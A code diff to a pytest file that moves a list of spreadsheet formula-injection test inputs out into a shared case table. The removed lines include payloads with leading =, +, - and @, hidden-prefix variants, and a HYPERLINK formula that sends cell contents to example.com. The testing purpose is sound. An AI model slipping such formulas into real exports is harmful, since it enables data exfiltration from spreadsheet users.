@@ -10,20 +10,10 @@ from pathlib import Path
 import pytest
 
 from secure_checklist import Checklist, Inventory, Item, Waiver, evaluate, formats
+from tests.cases import tables
 from tests.golden_personas import NOW
 
-FORMULAS = (
-    '=HYPERLINK("http://example.com/?"&A1,"click")',
-    "+1230+4",
-    "-1230+4",
-    "@SUM(1230+4)",
-    "\t=1230+4",
-    "\uff1d1230+4",
-    "'=1230+4",
-    "x;=1230+4;y",
-    "x\n=1230+4",
-    'x",=1230+4,"y',
-)
+FORMULAS: list[str] = tables(__file__)["formulas"]
 
 
 def table_of(*titles: str) -> bytes:
